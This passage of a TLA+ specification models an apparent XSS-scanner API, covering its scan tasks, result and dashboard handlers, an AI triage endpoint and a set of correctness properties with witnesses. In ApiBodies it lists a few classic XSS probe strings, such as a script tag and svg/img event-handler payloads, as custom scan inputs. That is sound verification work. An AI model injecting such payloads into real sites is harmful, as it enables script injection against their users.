                  oracle_calls |-> 0, raised |-> "none"]
        IN  IF vulnerability_ids = <<>> THEN TriageExcept(h, "HTTPException(404)") ELSE h
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks,
                   clock, faults>>

\* one "await db.vulnerabilities.find_one" of the lookup loop returns or
\* raises; after the last one the handler raises HTTPException(404) when it
\* found nothing
AiTriageFind ==
    /\ probe.kind = "ai_triage"
    /\ probe.pc = "find"
    /\ \/ /\ probe' =
                LET vuln  == FindVulnerability(probe.args[probe.k])
                    found == IF vuln = None THEN probe.found
                             ELSE Append(probe.found, Get(vuln))
                    h     == [probe EXCEPT !.found = found]
                IN  IF probe.k < Len(probe.args) THEN [h EXCEPT !.k = @ + 1]
                    ELSE IF found = <<>> THEN TriageExcept(h, "HTTPException(404)")
                    ELSE [h EXCEPT !.pc = "call"]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ probe' = TriageExcept(probe, "store")
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks, clock>>
    /\ faults' <= MaxApiFaults

\* the n-th value uuid.uuid4() gives one call of ai_triage_vulnerabilities
TriageUuid(n) == "u" \o ToString(n)

\* AiTriageCall that stores the narrative as the ai_summary of every
\* Vulnerability it was asked about
AiTriageCallPersisting ==
    /\ probe.kind = "ai_triage"
    /\ probe.pc = "call"
    /\ \/ /\ \E text \in OracleTexts :
                /\ probe' = [probe EXCEPT
                        !.pc = "responded",
                        !.status_code = 200,
                        !.body = [triage_analysis |-> text,
                                  vulnerability_count |-> Len(probe.found),
                                  session_id |-> "triage_" \o TriageUuid(2)],
                        !.oracle_calls = @ + 1]
                /\ vulnerabilities' =
                        [j \in DOMAIN vulnerabilities |->
                            IF \E m \in 1..Len(probe.found) :
                                    probe.found[m].id = vulnerabilities[j].id
                            THEN [vulnerabilities[j] EXCEPT
                                    !.ai_summary = Some("triage: " \o text)]
                            ELSE vulnerabilities[j]]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ probe' = TriageExcept([probe EXCEPT !.oracle_calls = @ + 1], "oracle")
          /\ UNCHANGED vulnerabilities
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, handlers, tasks, clock>>
    /\ faults' <= MaxApiFaults

\* the triage call to the text-generation service returns or raises
AiTriageCall ==
    /\ probe.kind = "ai_triage"
    /\ probe.pc = "call"
    /\ \/ /\ \E text \in OracleTexts :
                probe' = [probe EXCEPT
                    !.pc = "responded",
                    !.status_code = 200,
                    !.body = [triage_analysis |-> text,
                              vulnerability_count |-> Len(probe.found),
                              session_id |-> "triage_" \o TriageUuid(2)],
                    !.oracle_calls = @ + 1]
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ probe' = TriageExcept([probe EXCEPT !.oracle_calls = @ + 1], "oracle")
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks, clock>>
    /\ faults' <= MaxApiFaults

\* the response has been sent
Return ==
    /\ probe # NoProbe
    /\ probe.pc = "responded"
    /\ probe' = NoProbe
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks,
                   clock, faults>>

\* the awaited queries of get_dashboard_stats, in the order they are made,
\* each named after the local it is assigned to
DashboardQueries ==
    << "total_scans", "completed_scans", "total_vulnerabilities", "critical_count",
       "high_count", "medium_count", "low_count", "recent_scans" >>

RecentLimit == 5

\* the positions of the completed ScanResults
CompletedResults == {k \in 1..Len(scan_results) : scan_results[k].status = "completed"}

\* count_documents({"severity": severity}) on db.vulnerabilities
CountSeverity(severity) ==
    Cardinality({j \in 1..Len(vulnerabilities) : vulnerabilities[j].severity = severity})

\* the orders sort("completed_at", -1) may give the completed ScanResults:
\* none comes before one completed later
RecentOrders ==
    LET n == Cardinality(CompletedResults)
    IN  {order \in [1..n -> CompletedResults] :
            /\ \A p \in CompletedResults : \E k \in 1..n : order[k] = p
            /\ \A k \in 1..n, m \in 1..n :
                    k < m => Get(scan_results[order[k]].completed_at)
                                >= Get(scan_results[order[m]].completed_at)}

\* what the query assigned to the local gives on the store as it is now
\* (the last one may give any of its orders)
QueryResults(local) ==
    CASE local = "total_scans"           -> {Len(scans)}
      [] local = "completed_scans"       -> {Cardinality(CompletedResults)}
      [] local = "total_vulnerabilities" -> {Len(vulnerabilities)}
      [] local = "critical_count"        -> {CountSeverity("critical")}
      [] local = "high_count"            -> {CountSeverity("high")}
      [] local = "medium_count"          -> {CountSeverity("medium")}
      [] local = "low_count"             -> {CountSeverity("low")}
      [] local = "recent_scans"          ->
            {Prefix([k \in DOMAIN order |-> scan_results[order[k]]], RecentLimit) :
                order \in RecentOrders}

\* the dict get_dashboard_stats returns
DashboardBody(read) ==
    [total_scans           |-> read["total_scans"],
     completed_scans       |-> read["completed_scans"],
     total_vulnerabilities |-> read["total_vulnerabilities"],
     severity_distribution |->
        [critical |-> read["critical_count"], high |-> read["high_count"],
         medium |-> read["medium_count"], low |-> read["low_count"]],
     recent_scans          |-> read["recent_scans"]]

\* get_dashboard_stats after its k-th query has given value: the next query
\* is awaited, or the response is returned
DashboardAfter(h, value) ==
    LET read == [h.read EXCEPT ![DashboardQueries[h.k]] = value]
    IN  IF h.k < Len(DashboardQueries)
        THEN [h EXCEPT !.read = read, !.k = @ + 1]
        ELSE [h EXCEPT !.read = read, !.pc = "responded", !.status_code = 200,
                       !.body = DashboardBody(read)]

\* the except clause of get_dashboard_stats
DashboardExcept(h) ==
    [h EXCEPT !.pc = "responded", !.status_code = 500,
              !.body = "Failed to get dashboard statistics"]

\* the handler as GET /dashboard/stats starts it
NewDashboard ==
    [kind |-> "dashboard", pc |-> "query", args |-> <<>>, status_code |-> 0,
     body |-> "", k |-> 1,
     read |-> [local \in {DashboardQueries[k] : k \in DOMAIN DashboardQueries} |->
                    IF local = "recent_scans" THEN <<>> ELSE 0]]

\* GET /dashboard/stats arrives and its first query returns or raises
GetDashboardStats ==
    /\ probe = NoProbe
    /\ \/ /\ \E value \in QueryResults(DashboardQueries[1]) :
                probe' = DashboardAfter(NewDashboard, value)
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ probe' = DashboardExcept(NewDashboard)
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks, clock>>
    /\ faults' <= MaxApiFaults

\* the next query of get_dashboard_stats returns or raises
DashboardQuery ==
    /\ probe.kind = "dashboard"
    /\ probe.pc = "query"
    /\ \/ /\ \E value \in QueryResults(DashboardQueries[probe.k]) :
                probe' = DashboardAfter(probe, value)
          /\ UNCHANGED faults
       \/ /\ MayRaise
          /\ Raise
          /\ probe' = DashboardExcept(probe)
    /\ UNCHANGED <<XSS_PAYLOADS, scans, scan_results, vulnerabilities, handlers, tasks, clock>>
    /\ faults' <= MaxApiFaults

\* the scans the handlers are called beside: three findings of three
\* severities, stored in the order high, medium, critical, and two findings
\* of one severity
ApiBodies ==
    << Request(UrlQuery, "custom",
               Some(<<"<script>x()</script>", "<svg onload=alert(1)>",
                      "<img src=x onerror=fetch(1)>">>), FALSE, TRUE),
       Request(UrlQuery, "custom",
               Some(<<"<script>x()</script>", "<script>y()</script>">>), FALSE, TRUE) >>

\* scan ids asked for: the two scans and one that was never submitted
AskedScanIds == ScanIds \cup {"s0"}

\* vulnerability_ids of the triage requests
TriageRequests ==
    { <<>>, <<"v0">>, <<VulnUuid(1, 1)>>, <<"v0", VulnUuid(2, 2)>> }

\* the state after create_scan has returned for the two scans
InitApi ==
    LET reqs == [i \in 1..2 |-> ScanRequest(ApiBodies[i], "s" \o ToString(i), 0)] IN
    /\ XSS_PAYLOADS = Catalog
    /\ scans = reqs
    /\ scan_results = [i \in 1..2 |-> NewScanResult(reqs[i].id, ResultUuid(i))]
    /\ vulnerabilities = <<>>
    /\ handlers = <<>>
    /\ tasks = [i \in 1..2 |-> NewTask(i, reqs[i])]
    /\ clock = 0
    /\ faults = 0
    /\ probe = NoProbe

\* a step of a background task, taken while no handler is in flight
TaskStep ==
    /\ probe = NoProbe
    /\ \E i \in 1..Len(tasks) :
        \/ StartScan(i)
        \/ \E fetched \in PlainOutcomes : Fetch(i, fetched)
        \/ Technical(i)
        \/ Remediation(i)
        \/ InsertVulnerability(i)
        \/ ExecutiveSummary(i)
        \/ Finalize(i)
        \/ Except(i)
    /\ faults' <= MaxApiFaults

NextApi ==
    \/ TaskStep
    \/ \E scan_id \in AskedScanIds : GetScanResult(scan_id)
    \/ \E scan_id \in AskedScanIds : GetScanVulnerabilities(scan_id)
    \/ \E vulnerability_ids \in TriageRequests : AiTriage(vulnerability_ids)
    \/ AiTriageFind
    \/ AiTriageCall
    \/ GetDashboardStats
    \/ DashboardQuery
    \/ Return

SpecApi == InitApi /\ [][NextApi]_vars

\* C17: on every call of get_scan_result the ScanRequest, ScanResult and
\* Vulnerability records stay as they are, and when the lookup returns the
\* response is 200 with the first stored ScanResult of that scan_id when there
\* is one, and 404 when there is none.
C17_GetScanResult ==
    [][(probe = NoProbe /\ probe'.kind = "get_scan_result") =>
            /\ scans' = scans
            /\ scan_results' = scan_results
            /\ vulnerabilities' = vulnerabilities
            /\ faults' = faults =>
                LET stored == Matching(scan_results, probe'.args)
                IN  IF stored = {}
                    THEN probe'.status_code = 404
                    ELSE /\ probe'.status_code = 200
                         /\ probe'.body.scan_id = probe'.args
                         /\ \E k \in stored :
                                /\ scan_results[k] = probe'.body
                                /\ \A m \in stored : k <= m]_vars

\* get_scan_result has answered 404 for an id that was never submitted while
\* the ScanResults of two other scans are stored, one of them completed
C17_Witness ==
    /\ probe.kind = "get_scan_result"
    /\ probe.status_code = 404
    /\ Matching(scan_results, probe.args) = {}
    /\ Len(scan_results) = 2
    /\ \E k \in 1..Len(scan_results) : scan_results[k].status = "completed"

\* C18: when ai_triage_vulnerabilities has responded after looking up every
\* id of a request that names at least one, without a store fault and finding
\* no Vulnerability, the response is 404 and no oracle call was made.
C18_TriageNotFound ==
    (/\ probe.kind = "ai_triage"
     /\ probe.pc = "responded"
     /\ probe.args # <<>>
     /\ probe.raised \notin {"store", "oracle"}
     /\ probe.found = <<>>) =>
        /\ probe.status_code = 404
        /\ probe.oracle_calls = 0

\* the place of a severity label in the order critical, high, low, medium
LabelRank(severity) ==
    CASE severity = "critical" -> 1 [] severity = "high" -> 2
      [] severity = "low" -> 3 [] severity = "medium" -> 4

StoredOf(i) == SelectSeq(vulnerabilities, LAMBDA v : v.scan_id = tasks[i].req.id)

\* what the scan of task i has stored is what its own task holds: the stored
\* Vulnerability records are the first findings of the task, in order and as
\* the task has them, and a completed ScanResult has the values the task
\* computed from its own findings
OwnOutcome(i) ==
    LET t      == tasks[i]
        stored == StoredOf(i)
        result == Get(FindOne(scan_results, t.req.id))
    IN  /\ Len(stored) <= Len(t.vulnerabilities)
        /\ stored = SubSeq(t.vulnerabilities, 1, Len(stored))
        /\ result.scan_id = t.req.id
        /\ result.started_at = t.start_time
        /\ result.status = "completed" =>
            /\ stored = t.vulnerabilities
            /\ \A f \in DOMAIN CompletedPatch(t) : result[f] = CompletedPatch(t)[f]
            /\ result.total_vulnerabilities = Len(stored)
        /\ result.status # "completed" =>
            /\ result.total_vulnerabilities = 0
            /\ result.ai_executive_summary = None

\* a step of task i leaves the task, the ScanResult and the stored
\* Vulnerability records of every other scan as they are
StepsAlone(i) ==
    tasks'[i] # tasks[i] =>
        \A j \in 1..Len(tasks) \ {i} :
            /\ tasks'[j] = tasks[j]
            /\ FindOne(scan_results', tasks[j].req.id) = FindOne(scan_results, tasks[j].req.id)
            /\ SelectSeq(vulnerabilities', LAMBDA v : v.scan_id = tasks[j].req.id) = StoredOf(j)

\* C20: while the tasks of two scans with distinct ids interleave, every
\* stored Vulnerability has the scan_id of the task that found it, each scan
\* has stored exactly what its own task holds, and every step of one task,
\* the steps on which it fails included, leaves the task, the ScanResult and
\* the Vulnerability records of the other scan unchanged.
C20_ScansAreIndependent ==
    /\ [](/\ \A j \in 1..Len(vulnerabilities) :
                \E i \in 1..Len(tasks) :
                    /\ tasks[i].req.id = vulnerabilities[j].scan_id
                    /\ \E k \in 1..Len(tasks[i].vulnerabilities) :
                            tasks[i].vulnerabilities[k].id = vulnerabilities[j].id
          /\ \A i \in 1..Len(tasks) : OwnOutcome(i))
    /\ [][\A i \in 1..Len(tasks) : StepsAlone(i)]_vars

\* two scans with distinct ids have finished after their inserts interleaved:
\* one failed on a fault after storing findings, the other is completed with
\* all its findings
C20_Witness ==
    /\ Len(tasks) = 2
    /\ tasks[1].req.id # tasks[2].req.id
    /\ \A i \in 1..2 : tasks[i].pc = "done"
    /\ StatusOf(tasks[1].req.id) = "failed"
    /\ Len(StoredOf(1)) >= 1
    /\ StatusOf(tasks[2].req.id) = "completed"
    /\ Len(StoredOf(2)) = 2
    /\ \E a \in 1..Len(vulnerabilities), b \in 1..Len(vulnerabilities),
          c \in 1..Len(vulnerabilities) :
            /\ a < b
            /\ b < c
            /\ vulnerabilities[a].scan_id = tasks[2].req.id
            /\ vulnerabilities[b].scan_id = tasks[1].req.id
            /\ vulnerabilities[c].scan_id = tasks[2].req.id

\* C21: when no create_scan call is in flight and no call has raised, every
\* stored ScanRequest has exactly one stored ScanResult with its id as
\* scan_id, whatever ids the callers supplied.
C21_OneResultPerRequest ==
    (handlers = <<>> /\ faults = 0) =>
        \A k \in 1..Len(scans) :
            Cardinality(Matching(scan_results, scans[k].id)) = 1

\* the task has findings that analyze_vulnerability_with_ai has not yet
\* returned for
Enriching(t) ==
    /\ t.pc \in {"technical", "remediation", "insert"}
    /\ t.n_analyzed < Len(t.vulnerabilities)

\* C22: while a scan has findings not yet enriched, a successful
\* get_scan_vulnerabilities for its id returns no record, and its ScanResult
\* has total_vulnerabilities and the four severity counts at 0.
C22_NothingStoredMidEnrichment ==
    \A i \in 1..Len(tasks) :
        Enriching(tasks[i]) =>
            LET result == Get(FindOne(scan_results, tasks[i].req.id))
            IN  /\ (/\ probe.kind = "get_scan_vulnerabilities"
                    /\ probe.status_code = 200
                    /\ probe.args = tasks[i].req.id) => probe.body = <<>>
                /\ result.total_vulnerabilities = 0
                /\ result.critical_count = 0
                /\ result.high_count = 0
                /\ result.medium_count = 0
                /\ result.low_count = 0

\* the request is a custom scan that names no payloads
CustomWithoutPayloads(req) ==
    req.scan_type = "custom" /\ req.custom_payloads \in {None, Some(<<>>)}

\* C23: a custom scan whose custom_payloads is absent or empty has been
\* accepted and scheduled; whatever the fetch gives, perform_xss_scan makes
\* no call of test_payload for it; it has no finding and makes no oracle
\* call; and when no call other than the fetch has raised it is never on the
\* failure path and ends completed with zero findings and ai_risk_score 0.
C23_CustomWithoutPayloadsCompletes ==
    \A i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        CustomWithoutPayloads(t.req) =>
            /\ \A fetched \in FetchOutcomes : ScanCalls(t.req, fetched, XSS_PAYLOADS) = <<>>
            /\ t.vulnerabilities = <<>>
            /\ t.oracle_calls = <<>>
            /\ Matching(vulnerabilities, t.req.id) = {}
            /\ faults = (IF t.fetched = Some(FetchRaised) THEN 1 ELSE 0) =>
                /\ t.pc \notin {"except", "crashed"}
                /\ StatusOf(t.req.id) # "failed"
                /\ t.pc = "done" =>
                    LET result == Get(FindOne(scan_results, t.req.id))
                    IN  /\ result.status = "completed"
                        /\ result.total_vulnerabilities = 0
                        /\ result.ai_risk_score = Some(0)

\* a custom scan with an empty payload list, of a URL with a query parameter
\* and with forms and URL parameters included, whose fetch returned with
\* status 200 and that is completed with nothing found
C23_Witness ==
    \E i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        /\ t.req.scan_type = "custom"
        /\ t.req.custom_payloads = Some(<<>>)
        /\ t.req.include_forms
        /\ t.req.include_urls
        /\ Contains(t.req.target_url, "?")
        /\ t.fetched = Some([raised |-> FALSE, status |-> 200])
        /\ t.pc = "done"
        /\ StatusOf(t.req.id) = "completed"
        /\ Get(FindOne(scan_results, t.req.id)).ai_risk_score = Some(0)

\* C24: every step of get_scan_result, get_scan_vulnerabilities,
\* ai_triage_vulnerabilities and get_dashboard_stats, returning or raising,
\* leaves the stored ScanRequest, ScanResult and Vulnerability documents as
\* they are.
C24_ReadingHandlersWriteNothing ==
    [][probe'.kind \in {"get_scan_result", "get_scan_vulnerabilities",
                       "ai_triage", "dashboard"} =>
            /\ scans' = scans
            /\ scan_results' = scan_results
            /\ vulnerabilities' = vulnerabilities]_vars

\* ai_triage_vulnerabilities has answered 200 with the oracle's narrative for
\* a stored Vulnerability, whose ai_summary and remediation_suggestion are
\* still the ones its scan stored
C24_Witness ==
    /\ probe.kind = "ai_triage"
    /\ probe.status_code = 200
    /\ probe.oracle_calls = 1
    /\ probe.body.vulnerability_count = 1
    /\ \E j \in 1..Len(vulnerabilities), i \in 1..Len(tasks) :
            /\ vulnerabilities[j] = probe.found[1]
            /\ vulnerabilities[j] = tasks[i].vulnerabilities[1]

FindingsBegun(t, c) ==
    Cardinality({b \in 1..c : t.oracle_calls[b].persona = "technical"})

\* C26: the oracle calls of a scan are made in this order.  The n-th
\* technical call is for the n-th finding; a remediation call directly
\* follows the returned technical call of the same finding; a finding is
\* stored only after its technical call, and after its remediation call when
\* the technical call returned; the calls of the next finding begin only
\* when the finding before is stored; the executive-summary call is the last
\* call, under the session of the scan, made at most once and only when
\* there is a finding and every finding is analysed and stored.
C26_OracleCallOrder ==
    \A i \in 1..Len(tasks) :
        LET t      == tasks[i]
            log    == t.oracle_calls
            stored == Len(StoredOf(i))
        IN  /\ \A c \in 1..Len(log) :
                LET n == FindingsBegun(t, c) IN
                CASE log[c].persona = "technical" ->
                        /\ n <= Len(t.vulnerabilities)
                        /\ log[c].session_id = "vuln_analysis_" \o t.vulnerabilities[n].id
                  [] log[c].persona = "remediation" ->
                        /\ c > 1
                        /\ log[c - 1] = OracleCall("technical",
                                "vuln_analysis_" \o t.vulnerabilities[n].id, TRUE)
                        /\ log[c].session_id = "remediation_" \o t.vulnerabilities[n].id
                  [] log[c].persona = "executive_summary" ->
                        /\ c = Len(log)
                        /\ log[c].session_id = "executive_summary_" \o t.req.id
                        /\ Len(t.vulnerabilities) >= 1
                        /\ t.n_analyzed = Len(t.vulnerabilities)
                        /\ stored = Len(t.vulnerabilities)
            /\ stored <= FindingsBegun(t, Len(log))
            /\ FindingsBegun(t, Len(log)) <= stored + 1
            /\ \A k \in 1..stored :
                    /\ Cardinality(CallsFor(t, "technical", k)) = 1
                    /\ CallReturned(t, "technical", k) =>
                            Cardinality(CallsFor(t, "remediation", k)) = 1

\* a finished scan with three findings or more: the technical call of one
\* finding raised, both calls of another were made, every finding is stored
\* and the executive-summary call was made last
C26_Witness ==
    \E i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        /\ t.pc = "done"
        /\ Len(t.vulnerabilities) >= 3
        /\ Len(StoredOf(i)) = Len(t.vulnerabilities)
        /\ \E k \in 1..Len(t.vulnerabilities) : CallFailed(t, "technical", k)
        /\ \E k \in 1..Len(t.vulnerabilities) : CallsFor(t, "remediation", k) # {}
        /\ t.oracle_calls[Len(t.oracle_calls)].persona = "executive_summary"

\* the texts the k-th finding of task t must carry once analysed, from the
\* outcomes of its own two oracle calls alone
OwnTexts(t, k) ==
    IF CallFailed(t, "technical", k) \/ CallFailed(t, "remediation", k)
    THEN [ai_summary |-> {Some(FallbackSummary)},
          remediation_suggestion |-> {Some(FallbackRemediation)}]
    ELSE [ai_summary |-> {Some(text) : text \in OracleTexts},
          remediation_suggestion |-> {Some(text) : text \in OracleTexts}]

\* a step of task i between two awaits of the analysis of its finding idx
\* changes no other finding of the task and no stored Vulnerability
EnrichesOneFinding(i) ==
    LET t == tasks[i] IN
    t.pc \in {"technical", "remediation"} =>
        /\ vulnerabilities' = vulnerabilities
        /\ Len(tasks'[i].vulnerabilities) = Len(t.vulnerabilities)
        /\ \A k \in 1..Len(t.vulnerabilities) \ {t.idx} :
                tasks'[i].vulnerabilities[k] = t.vulnerabilities[k]

\* C27: what a scan stores for a finding depends on the outcomes of that
\* finding's own oracle calls only, and the counts of the scan on no oracle
\* outcome at all, so two runs that differ in the oracle outcomes of one
\* finding agree on everything else.  In every state each stored finding has
\* the severity of its payload and the texts that its own two calls determine;
\* a completed ScanResult has the counts of the severities of all findings
\* detected, their number as total and the capped score of that number; and
\* an analysis step changes the finding under analysis and nothing else.
C27_EnrichmentDoesNotInterfere ==
    /\ [](\A i \in 1..Len(tasks) :
            LET t      == tasks[i]
                stored == StoredOf(i)
                result == Get(FindOne(scan_results, t.req.id))
                counts == SeverityCounts(t.vulnerabilities)
            IN  /\ \A k \in 1..Len(stored) :
                    /\ stored[k].id = t.vulnerabilities[k].id
                    /\ stored[k].severity = Severity(stored[k].payload)
                    /\ stored[k].ai_summary \in OwnTexts(t, k).ai_summary
                    /\ stored[k].remediation_suggestion \in OwnTexts(t, k).remediation_suggestion
                /\ result.status = "completed" =>
                    /\ result.total_vulnerabilities = Len(t.vulnerabilities)
                    /\ result.critical_count = counts["critical"]
                    /\ result.high_count = counts["high"]
                    /\ result.medium_count = counts["medium"]
                    /\ result.low_count = counts["low"]
                    /\ result.ai_risk_score =
                            Some(Min(RiskCap, Len(t.vulnerabilities) * RiskPerVulnerability)))
    /\ [][\A i \in 1..Len(tasks) : EnrichesOneFinding(i)]_vars

\* a completed scan of three findings or more in which a call of one finding
\* raised and both calls of another returned
C27_Witness ==
    \E i \in 1..Len(tasks) :
        LET t == tasks[i] IN
        /\ Get(FindOne(scan_results, t.req.id)).status = "completed"
        /\ Len(t.vulnerabilities) >= 3
        /\ \E j, k \in 1..Len(t.vulnerabilities) :
                /\ j # k
                /\ CallFailed(t, "remediation", j)
                /\ CallReturned(t, "technical", k)
                /\ CallReturned(t, "remediation", k)
                /\ StoredOf(i)[j].ai_summary = Some(FallbackSummary)
                /\ StoredOf(i)[k].ai_summary # Some(FallbackSummary)

\* the three fields of a ScanResult that only the final update writes
CompletionFields(result) ==
    <<result.scan_duration, result.ai_risk_score, result.ai_executive_summary>>

-----------------------------------------------------------------------------
(* get_dashboard_stats beside a scan that is submitted and runs while the  *)
(* queries of one call are awaited                                          *)

\* scans submitted beside the dashboard call
MaxDashScans == 1

\* POST /api/scans, handled while a dashboard call may be in flight
DashCreateScan ==
    /\ Len(scans) + Len(handlers) < MaxDashScans
    /\ \E body \in Bodies : CreateScanStoreRequest(body, "s1")
    /\ faults' <= MaxApiFaults

\* the second insert of create_scan
DashCreateScanResult ==
    /\ \E h \in 1..Len(handlers) : CreateScanStoreResult(h)
    /\ faults' <= MaxApiFaults

\* a step of a background task, taken whether or not a dashboard call is
\* waiting for a query
DashTaskStep ==
    /\ probe.kind \in {"none", "dashboard"}
    /\ \E i \in 1..Len(tasks) :
        \/ StartScan(i)
        \/ \E fetched \in PlainOutcomes : Fetch(i, fetched)
        \/ Technical(i)
        \/ Remediation(i)
        \/ InsertVulnerability(i)
        \/ ExecutiveSummary(i)
        \/ Finalize(i)
        \/ Except(i)
    /\ faults' <= MaxApiFaults

NextDash ==
    \/ DashCreateScan
    \/ DashCreateScanResult
    \/ DashTaskStep
    \/ GetDashboardStats
    \/ DashboardQuery
    \/ Return

SpecDash == Init /\ [][NextDash]_vars

\* C29: whenever get_dashboard_stats has answered 200, the
\* total_vulnerabilities of its body is the sum of the four counts of its
\* severity_distribution and its completed_scans is at most its total_scans.
C29_DashboardSnapshot ==
    (probe.kind = "dashboard" /\ probe.pc = "responded" /\ probe.status_code = 200) =>
        LET dist == probe.body.severity_distribution IN
        /\ probe.body.total_vulnerabilities =
                dist.critical + dist.high + dist.medium + dist.low
        /\ probe.body.completed_scans <= probe.body.total_scans

\* C30: in every state no stored Vulnerability has severity low or
\* false_positive set and every completed ScanResult has low_count 0, and no
\* step changes or removes a Vulnerability that is stored.
C30_NoLowNoFalsePositive ==
    /\ [](/\ \A j \in 1..Len(vulnerabilities) :
                /\ vulnerabilities[j].severity \in {"critical", "high", "medium"}
                /\ ~vulnerabilities[j].false_positive
          /\ \A r \in 1..Len(scan_results) :
                scan_results[r].status = "completed" => scan_results[r].low_count = 0)
    /\ [][/\ Len(vulnerabilities') >= Len(vulnerabilities)
          /\ SubSeq(vulnerabilities', 1, Len(vulnerabilities)) = vulnerabilities]_vars

\* a completed scan whose stored findings have the three severities
C30_Witness ==
    /\ \E r \in 1..Len(scan_results) :
            /\ scan_results[r].status = "completed"
            /\ scan_results[r].critical_count > 0
            /\ scan_results[r].high_count > 0
            /\ scan_results[r].medium_count > 0
    /\ \A sev \in {"critical", "high", "medium"} :
            \E j \in 1..Len(vulnerabilities) : vulnerabilities[j].severity = sev

====
